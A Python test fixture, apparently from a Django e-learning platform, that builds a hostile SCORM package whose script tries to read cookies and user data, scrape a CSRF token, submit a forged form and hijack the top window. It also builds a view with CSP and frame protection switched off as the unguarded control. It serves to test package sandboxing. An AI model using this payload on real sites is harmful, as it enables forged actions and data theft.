"""A package that tries to act as the person in front of it, and our own pages for it without any guard: the control."""

import json
from typing import Any

from csp.decorators import csp_exempt
from django.conf import settings
from django.http import HttpRequest, HttpResponse
from django.urls import path
from django.views.decorators.clickjacking import xframe_options_exempt

from config.urls import urlpatterns as of_the_site
from tests.builders.packages import files_12

PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Harm</title></head><body><p id="done"></p><p id="top">
</p><script>
const site = SITE, course = site + "/learn/COURSE/", found = {};
const wait = (ms) => new Promise((after) => setTimeout(after, ms));
async function attempt(name, what) {
  try { found[name] = await Promise.race([what(), wait(6000).then(() => "nothing")]); }
  catch { found[name] = "failed"; }
}
async function token() {
  const answer = await fetch(course, { credentials: "include" });
  return (await answer.text()).match(/csrfmiddlewaretoken" value="([^"]+)/)[1];
}
async function sent(token) {
  const sink = Object.assign(document.createElement("iframe"), { name: "sink" });
  const form = Object.assign(document.createElement("form"), { method: "post", action: course + "give-back/",
    target: "sink", innerHTML: "<input name=csrfmiddlewaretoken>" });
  form.firstChild.value = token;
  document.body.append(sink, form);
  form.submit();
  await wait(2000);
  return "sent";
}
(async () => {
  await attempt("storage", async () => { const left = localStorage.getItem("left");
    localStorage.setItem("left", "found"); return left; });
  await attempt("cookies", async () => document.cookie.includes("csrftoken") ? "found" : "nothing");
  await attempt("read", async () => {
    const answer = await fetch(site + "/me/data/", { credentials: "include" });
    return (await answer.text()).includes("Marek") ? "read" : "nothing"; });
  await attempt("parent", async () => window.top.document.title);
  await attempt("window", async () => window.open(site + "/learn/") ? "opened" : "nothing");
  await attempt("worker", async () => { await navigator.serviceWorker.register("WORKER"); return "registered"; });
  await attempt("framed", async () => { const one = document.createElement("iframe"); one.src = site + "/harm/empty/";
    document.body.append(one); await wait(2000); return one.contentDocument.title; });
  await attempt("form", async () => sent(await token().catch(() => "x".repeat(64))));
  document.getElementById("done").textContent = JSON.stringify(found);
  await wait(4000);
  try { window.top.location.href = site + "/static/mark.svg"; await wait(1500); }
  catch { document.getElementById("top").textContent = "failed"; }
})();
</script></body></html>"""


def harm(site: str, course: object, *, worker: str = "worker.js") -> str:
    """The page; `course` is the one that it tries to give back."""
    page = PAGE.replace("SITE", json.dumps(site)).replace("COURSE", str(course))
    return page.replace("WORKER", worker)


def harmful(site: str, course: object) -> dict[str, str]:
    """Its package."""
    there = {"scormcontent/story/index_lms.html": harm(site, course), "scormcontent/story/worker.js": "self.x = 1"}
    return files_12() | there


@csp_exempt()
@xframe_options_exempt
def unguarded(request: HttpRequest, name: str, course: Any = None) -> HttpResponse:
    """As if packages were shown in a frame of the site itself."""
    if name == "worker":
        return HttpResponse("self.x = 1", content_type="text/javascript")
    if name == "page":
        return HttpResponse(harm(settings.SITE_URL, course, worker="/harm/worker/"))
    frame = f'<iframe src="/harm/page/{course}/"></iframe>' if name == "frame" else ""
    return HttpResponse(f"<!doctype html><title>Ours</title>{frame}")


urlpatterns = [
    path("harm/<str:name>/", unguarded),
    path("harm/<str:name>/<uuid:course>/", unguarded),
    *of_the_site,
]
